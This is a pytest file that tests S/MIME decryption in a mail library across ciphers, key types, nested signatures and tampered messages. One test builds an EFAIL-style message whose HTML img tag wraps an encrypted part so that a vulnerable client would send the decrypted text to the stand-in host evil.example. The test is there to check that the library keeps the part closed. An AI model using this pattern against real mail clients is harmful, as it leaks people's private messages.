"""Encrypted mail, made by openssl and opened here."""

from __future__ import annotations

import pytest
from cryptography.hazmat.primitives.asymmetric import ec

from mailboxes.parsing import attachment_content
from mailboxes.smime.opening import entity_inside
from mailboxes.smime.states import EncryptionState, SignatureState
from tests.mailboxes.smime.authority import Holder, person, rsa_key
from tests.mailboxes.smime.opened import opened
from tests.mailboxes.smime.openssl import ENTITY, HEADER, Openssl, mail_of

WITH_ATTACHMENT = b"\r\n".join(
    (
        b"Content-Type: multipart/mixed; boundary=inner",
        b"",
        b"--inner",
        b"Content-Type: text/html",
        b"",
        b"<p>See the <b>offer</b>.",
        b"--inner",
        b"Content-Type: application/pdf; name=offer.pdf",
        b"Content-Transfer-Encoding: base64",
        b"",
        b"JVBERi0xLjQ=",
        b"--inner--",
        b"",
    )
)


@pytest.mark.parametrize(
    "cipher",
    ["-aes-128-cbc", "-aes-192-cbc", "-aes-256-cbc", "-des3", "-aes-128-gcm", "-aes-256-gcm"],
)
def test_mail_for_a_key_that_is_here_is_opened(cipher: str, openssl: Openssl, office: Holder) -> None:
    found = opened(mail_of(openssl.encrypt(ENTITY, office, cipher=cipher)), keys=(office,))

    assert found.result.encryption is EncryptionState.DECRYPTED
    assert found.result.signature is SignatureState.NONE
    assert found.result.opened_with == office.certificate.fingerprint
    assert found.mail.text == "The price is 40.\nAnna\n"
    assert found.mail.attachments == ()
    assert found.mail.from_[0].addr_spec == "anna@example.com"


@pytest.mark.parametrize(
    "options",
    [
        ("-keyopt", "rsa_padding_mode:oaep"),
        ("-keyopt", "rsa_padding_mode:oaep", "-keyopt", "rsa_oaep_md:sha256"),
        ("-keyid",),
        ("-stream",),
    ],
)
def test_other_ways_to_name_and_carry_the_key_are_read(
    options: tuple[str, ...], openssl: Openssl, office: Holder
) -> None:
    found = opened(mail_of(openssl.encrypt(ENTITY, office, options=options)), keys=(office,))

    assert found.result.encryption is EncryptionState.DECRYPTED


def test_mail_for_several_is_opened_with_the_key_that_is_here(
    openssl: Openssl, anna: Holder, office: Holder, example_ca: Holder
) -> None:
    other = person(example_ca, "shop@harbor.example", key=rsa_key(3))

    found = opened(mail_of(openssl.encrypt(ENTITY, anna, office)), keys=(other, office))

    assert found.result.opened_with == office.certificate.fingerprint


def test_mail_for_a_key_that_is_not_here_says_so(openssl: Openssl, anna: Holder, office: Holder) -> None:
    found = opened(mail_of(openssl.encrypt(ENTITY, anna)), keys=(office,))

    assert found.result.encryption is EncryptionState.NO_KEY
    assert not found.result.is_opened
    assert [one.filename for one in found.mail.attachments] == ["smime.p7m"]
    assert found.mail.text == ""


@pytest.mark.parametrize("curve", [ec.SECP256R1(), ec.SECP384R1(), ec.SECP521R1(), ec.BrainpoolP256R1()])
@pytest.mark.parametrize(
    "options",
    [
        (),
        ("-keyid",),
        ("-keyopt", "ecdh_kdf_md:sha256"),
        ("-keyopt", "ecdh_kdf_md:sha512", "-keyopt", "ecdh_cofactor_mode:1"),
    ],
)
def test_mail_for_an_elliptic_curve_is_opened(
    curve: ec.EllipticCurve, options: tuple[str, ...], openssl: Openssl, example_ca: Holder
) -> None:
    holder = person(example_ca, "office@harbor.example", key=ec.generate_private_key(curve))

    found = opened(mail_of(openssl.encrypt(ENTITY, holder, options=options)), keys=(holder,))

    assert found.result.encryption is EncryptionState.DECRYPTED
    assert found.mail.text == "The price is 40.\nAnna\n"


def test_a_key_of_another_curve_opens_nothing(openssl: Openssl, example_ca: Holder) -> None:
    holder = person(example_ca, "office@harbor.example", key=ec.generate_private_key(ec.SECP256R1()))
    other = ec.generate_private_key(ec.SECP384R1())

    result = opened(mail_of(openssl.encrypt(ENTITY, holder)), keys=(Holder(other, holder.x509),)).result

    assert result.encryption is EncryptionState.BROKEN


def test_a_password_instead_of_a_key_is_not_readable_here(openssl: Openssl, office: Holder) -> None:
    result = opened(mail_of(openssl.encrypt_with_password(ENTITY, "sesame")), keys=(office,)).result

    assert result.encryption is EncryptionState.UNSUPPORTED
    assert "another kind of key" in result.encryption_reason


def test_an_unknown_cipher_is_not_readable_here(openssl: Openssl, office: Holder) -> None:
    result = opened(mail_of(openssl.encrypt(ENTITY, office, cipher="-camellia-256-cbc")), keys=(office,)).result

    assert result.encryption is EncryptionState.UNSUPPORTED
    assert result.encryption_reason


@pytest.mark.parametrize("cipher", ["-aes-256-cbc", "-aes-256-gcm"])
def test_changed_octets_do_not_open(cipher: str, openssl: Openssl, office: Holder) -> None:
    raw = mail_of(openssl.encrypt(ENTITY * 20, office, cipher=cipher))
    damaged = raw.rstrip()[:-40] + b"A" * 36 + raw.rstrip()[-4:]

    found = opened(damaged, keys=(office,))

    assert found.result.encryption is EncryptionState.BROKEN
    assert "price" not in found.mail.text


def test_a_key_for_another_certificate_of_the_same_name_opens_nothing(
    openssl: Openssl, office: Holder, anna: Holder
) -> None:
    raw = mail_of(openssl.encrypt(ENTITY, office))
    swapped = Holder(anna.key, office.x509)

    assert opened(raw, keys=(swapped,)).result.encryption is EncryptionState.BROKEN


def test_signed_and_then_encrypted_mail_gives_both(
    openssl: Openssl, example_ca: Holder, anna: Holder, office: Holder
) -> None:
    raw = mail_of(openssl.encrypt(openssl.sign(ENTITY, anna), office))

    found = opened(raw, example_ca, keys=(office,))

    assert found.result.encryption is EncryptionState.DECRYPTED
    assert found.result.signature is SignatureState.VALID
    assert found.mail.text == "The price is 40.\nAnna\n"
    assert found.mail.attachments == ()


def test_encrypted_and_then_signed_mail_gives_both(
    openssl: Openssl, example_ca: Holder, anna: Holder, office: Holder
) -> None:
    raw = mail_of(openssl.sign(openssl.encrypt(ENTITY, office), anna))

    found = opened(raw, example_ca, keys=(office,))

    assert found.result.encryption is EncryptionState.DECRYPTED
    assert found.result.signature is SignatureState.VALID
    assert found.mail.text == "The price is 40.\nAnna\n"


def test_three_wrappers_are_taken_off_and_a_fourth_is_not(
    openssl: Openssl, example_ca: Holder, anna: Holder, office: Holder
) -> None:
    three = openssl.sign(openssl.encrypt(openssl.sign(ENTITY, anna, "-nodetach"), office), anna)
    four = openssl.encrypt(three, office)

    in_three = opened(mail_of(three), example_ca, keys=(office,))
    in_four = opened(mail_of(four), example_ca, keys=(office,))

    assert (in_three.result.encryption, in_three.result.signature) == (EncryptionState.DECRYPTED, SignatureState.VALID)
    assert "price" in in_three.mail.text
    assert in_four.result.encryption is EncryptionState.UNSUPPORTED
    assert "price" not in in_four.mail.text


def test_a_changed_mail_inside_an_encrypted_one_is_invalid(
    openssl: Openssl, example_ca: Holder, anna: Holder, office: Holder
) -> None:
    tampered = openssl.sign(ENTITY, anna).replace(b"price is 40", b"price is 90")
    raw = mail_of(openssl.encrypt(tampered, office))

    result = opened(raw, example_ca, keys=(office,)).result

    assert (result.encryption, result.signature) == (EncryptionState.DECRYPTED, SignatureState.INVALID)


def test_attachments_of_an_opened_mail_are_found_in_the_entity_inside(
    openssl: Openssl, example_ca: Holder, anna: Holder, office: Holder
) -> None:
    raw = mail_of(openssl.encrypt(openssl.sign(WITH_ATTACHMENT, anna), office))

    found = opened(raw, example_ca, keys=(office,))

    assert [one.filename for one in found.mail.attachments] == ["offer.pdf"]
    assert attachment_content(found.entity, found.mail.attachments[0].position) == b"%PDF-1.4"
    assert entity_inside(raw, identities=[office.identity]) == found.entity
    assert entity_inside(raw, identities=[]) == raw


def test_an_encrypted_part_beside_clear_html_stays_closed(openssl: Openssl, office: Holder) -> None:
    encrypted = openssl.encrypt(ENTITY, office).replace(b"\r\n", b"\n")
    entity = (
        b"Content-Type: multipart/mixed; boundary=efail\n\n"
        b'--efail\nContent-Type: text/html\n\n<img src="http://evil.example/?\n--efail\n'
        + encrypted
        + b'\n--efail\nContent-Type: text/html\n\n">\n--efail--\n'
    )

    found = opened(mail_of(entity), keys=(office,))

    assert found.result.encryption is EncryptionState.PARTIAL
    assert "price" not in found.mail.text + found.mail.html
    assert "smime.p7m" in [one.filename for one in found.mail.attachments]


def test_a_subject_that_the_sender_protected_takes_the_place_of_the_one_outside(
    openssl: Openssl, office: Holder
) -> None:
    entity = b'Content-Type: text/plain; hp="cipher"\r\nSubject: The merger\r\n\r\nIt is on.\r\n'
    raw = mail_of(openssl.encrypt(entity, office), *HEADER[:2], "Subject: [...]", *HEADER[3:])

    assert opened(raw, keys=(office,)).mail.subject == "The merger"


def test_a_subject_inside_that_is_not_protected_does_not_count(openssl: Openssl, office: Holder) -> None:
    raw = mail_of(openssl.encrypt(b"Subject: Other\r\n" + ENTITY, office))

    assert opened(raw, keys=(office,)).mail.subject == "The offer"
